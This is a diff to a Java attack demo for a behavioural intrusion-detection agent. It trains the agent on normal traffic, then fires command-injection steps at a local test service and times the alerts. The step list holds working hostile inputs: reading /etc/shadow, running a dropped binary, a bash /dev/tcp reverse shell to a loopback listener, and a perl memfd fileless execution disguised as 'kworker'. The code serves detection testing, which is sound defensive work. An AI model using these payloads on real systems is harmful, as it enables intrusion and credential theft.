@@ -7,6 +7,7 @@ import dev.vigil.alert.AlertText;
 import dev.vigil.alert.Metrics;
 import dev.vigil.collect.CgroupFs;
 import dev.vigil.profile.Dimension;
+import dev.vigil.profile.WorkloadProfile;
 import java.io.BufferedReader;
 import java.io.IOException;
 import java.io.InputStream;
@@ -45,15 +46,25 @@ public final class AttackDemo implements AutoCloseable {
     /** One attack step: what it does in words, and the injected text after "localhost;". */
     public record Step(String what, String injected) {}
 
+    /** The attack, step by step; PORT is the attacker's listener, MEMFD memfd_create's number on this machine. */
     public static final List<Step> STEPS = List.of(
             new Step("discovery: who am I, what is this machine", "id;uname -a"),
             new Step("credential access: read /etc/shadow", "cat /etc/shadow"),
             new Step("a binary dropped in /tmp and run", "cp /bin/true /tmp/.vigil-demo-dropper;/tmp/.vigil-demo-dropper"),
-            new Step("a reverse-shell attempt: bash opens a TCP connection", "bash -c 'echo hi > /dev/tcp/127.0.0.1/9'"));
+            new Step("a reverse shell: bash connects out to the attacker", "bash -c 'echo id > /dev/tcp/127.0.0.1/PORT'"),
+            new Step("fileless: a program written to memory (memfd) and run from there",
+                    "perl -e '$n=\"x\";$f=syscall(MEMFD,$n,0);open(I,\"</bin/true\");sysread(I,$b,1e7);open(O,\">&=$f\");syswrite(O,$b);"
+                            + "exec{\"/proc/self/fd/$f\"}\"kworker\"'"));
 
-    /** What the demo saw. */
+    /** A step's injected text for this run. */
+    String injected(Step s) {
+        return s.injected().replace("PORT", Integer.toString(attackerPort))
+                .replace("MEMFD", Integer.toString(dev.vigil.trace.SyscallTable.host().number("memfd_create").orElse(-1)));
+    }
+
     public record Result(Duration learning, int learnt, long normalSeconds, int falseAlarms, List<StepResult> steps) {}
 
+    /** firstAlert: from the request carrying the step to the first alert reaching the outputs. */
     public record StepResult(Step step, List<Alert> alerts, Duration firstAlert) {
         public boolean detected() { return !alerts.isEmpty(); }
     }
@@ -65,10 +76,13 @@ public final class AttackDemo implements AutoCloseable {
     private Thread agentThread, trafficThread;
     private final AtomicBoolean stop = new AtomicBoolean(), trafficStop = new AtomicBoolean();
     private final LinkedBlockingQueue<Alert> alerts = new LinkedBlockingQueue<>();
+    /** When each alert reached the demo (after the agent's grouping window), by identity. */
+    private final Map<Alert, Instant> received = java.util.Collections.synchronizedMap(new java.util.IdentityHashMap<>());
     private final AtomicLong requests = new AtomicLong();
     private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
-    private int port;
+    private int port, attackerPort;
     private String workload;
+    private java.net.ServerSocket attacker;
 
     public AttackDemo(PrintStream out) throws IOException {
         this.out = out;
@@ -89,14 +103,26 @@ public final class AttackDemo implements AutoCloseable {
         try (var s = new java.net.ServerSocket(0)) {
             port = s.getLocalPort();
         }
+        // the attacker's listener for the reverse shell: accepts and hangs up
+        attacker = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress());
+        attackerPort = attacker.getLocalPort();
+        Thread.ofPlatform().name("vigil-demo-attacker").daemon().start(() -> {
+            while (!attacker.isClosed()) {
+                try (var c = attacker.accept()) {
+                    c.getInputStream().readNBytes(64);
+                } catch (IOException e) {
+                    return;
+                }
+            }
+        });
         workload = "cgroup:/" + cgroup.getFileName() + " " + bin.getFileName();
 
         // the agent: workload profiles only, fast learning, every alert to the screen and to the demo
         AgentConfig d = AgentConfig.defaults();
         AgentConfig cfg = new AgentConfig("", d.host(), dir.resolve("state"), new AgentConfig.Sequence(false, List.of(), 9, 1, 1, 12, 16, 16, Duration.ofSeconds(60),
                 "/sys/fs/bpf/vigil-demo-" + ProcessHandle.current().pid()),
-                new AgentConfig.Profiles(true, new Dimension.Learning(Duration.ZERO, Duration.ofSeconds(6), 40, Duration.ofMinutes(10), 1000), 100, Duration.ZERO,
-                        AgentConfig.Profiles.IGNORE), List.of("exec", "risky"), d.filters(), new AlertPipeline.Limits(Duration.ofMinutes(10), 0, 0, 1000),
+                new AgentConfig.Profiles(true, new Dimension.Learning(Duration.ZERO, Duration.ofSeconds(6), 5000, Duration.ofMinutes(10), 2000), 100, Duration.ZERO,
+                        AgentConfig.Profiles.IGNORE), List.of("exec"), d.filters(), new AlertPipeline.Limits(Duration.ofMinutes(10), 0, 0, 1000),
                 List.of(), null, List.of());
         agent = new Agent(cfg, new PrintStream(java.io.OutputStream.nullOutputStream()), List.of(new Collecting()));
         agentThread = Thread.ofPlatform().name("vigil-demo-agent").daemon().start(() -> {
@@ -116,15 +142,22 @@ public final class AttackDemo implements AutoCloseable {
         trafficThread = Thread.ofPlatform().name("vigil-demo-traffic").daemon().start(this::traffic);
         say("steady traffic: about 15 requests a second to /, /time, /stats and /lookup?host=localhost|example.org; the agent learns ...");
         Instant start = Instant.now();
-        Alert stable = null;
-        while (stable == null && Duration.between(start, Instant.now()).compareTo(maxLearn) < 0) {
+        // learnt when the programs, files, network, high-risk calls and system calls it uses are all stable
+        Map<String, Alert> stable = new java.util.LinkedHashMap<>();
+        List<String> needed = WorkloadProfile.DIMENSIONS;
+        while (!stable.keySet().containsAll(needed) && Duration.between(start, Instant.now()).compareTo(maxLearn) < 0) {
             Alert a = alerts.poll(500, TimeUnit.MILLISECONDS);
-            if (a != null && mine(a) && a.kind().equals("profile_state")) stable = a;
+            if (a != null && mine(a) && a.kind().equals("profile_state") && "stable".equals(a.evidence().get("state"))) {
+                stable.put(String.valueOf(a.evidence().get("dimension")), a);
+            }
         }
-        if (stable == null) throw new IllegalStateException("the profile did not become stable in " + maxLearn.toSeconds() + " s");
+        if (!stable.keySet().containsAll(needed)) {
+            throw new IllegalStateException("the profile did not become stable in " + maxLearn.toSeconds() + " s (stable: " + stable.keySet() + ")");
+        }
         Duration learning = Duration.between(start, Instant.now());
-        int learnt = ((Number) stable.evidence().get("learnt_items")).intValue();
-        say("learnt in %.1f s: %s", learning.toMillis() / 1000.0, stable.summary());
+        int learnt = stable.values().stream().mapToInt(a -> ((Number) a.evidence().get("learnt_items")).intValue()).sum();
+        say("learnt in %.1f s:", learning.toMillis() / 1000.0);
+        for (Alert a : stable.values()) out.println("  " + a.summary());
 
         say("phase 2/3: the same traffic for %d s; nothing should be alerted", normalSeconds);
         alerts.clear();
@@ -137,13 +170,13 @@ public final class AttackDemo implements AutoCloseable {
         List<StepResult> results = new ArrayList<>();
         for (Step s : STEPS) {
             alerts.clear();
-            out.printf(Locale.ROOT, "%n[demo] attack: %s   (host=localhost;%s)%n", s.what(), s.injected());
+            out.printf(Locale.ROOT, "%n[demo] attack: %s   (host=localhost;%s)%n", s.what(), injected(s));
             Instant t0 = Instant.now();
-            get("/lookup?host=" + URLEncoder.encode("localhost;" + s.injected(), StandardCharsets.UTF_8));
+            get("/lookup?host=" + URLEncoder.encode("localhost;" + injected(s), StandardCharsets.UTF_8));
             List<Alert> got = drain(2000).stream().filter(a -> mine(a) && a.kind().equals("anomaly")).toList();
             for (Alert a : got) out.println("  " + a.severity() + " " + a.summary());
             if (got.isEmpty()) out.println("  (no alert)");
-            results.add(new StepResult(s, got, got.isEmpty() ? null : Duration.between(t0, got.getFirst().time())));
+            results.add(new StepResult(s, got, got.isEmpty() ? null : Duration.between(t0, received.getOrDefault(got.getFirst(), got.getFirst().time()))));
         }
         return new Result(learning, learnt, normalSeconds, normal.size(), results);
     }
@@ -193,7 +226,10 @@ public final class AttackDemo implements AutoCloseable {
     /** Every alert of the demo's agent: to the demo's queue. */
     private final class Collecting implements AlertOutput {
         public String name() { return "demo"; }
-        public void send(Alert a) { alerts.add(a); }
+        public void send(Alert a) {
+            received.put(a, Instant.now());
+            alerts.add(a);
+        }
         public Map<String, Long> counts() { return Map.of("sent", 0L, "failed", 0L, "dropped", 0L); }
         public void close() { }
     }
@@ -205,6 +241,13 @@ public final class AttackDemo implements AutoCloseable {
     @Override
     public void close() {
         trafficStop.set(true);
+        if (attacker != null) {
+            try {
+                attacker.close();
+            } catch (IOException ignored) {
+                // closing
+            }
+        }
         if (trafficThread != null) trafficThread.interrupt();
         if (service != null) {
             service.destroy();
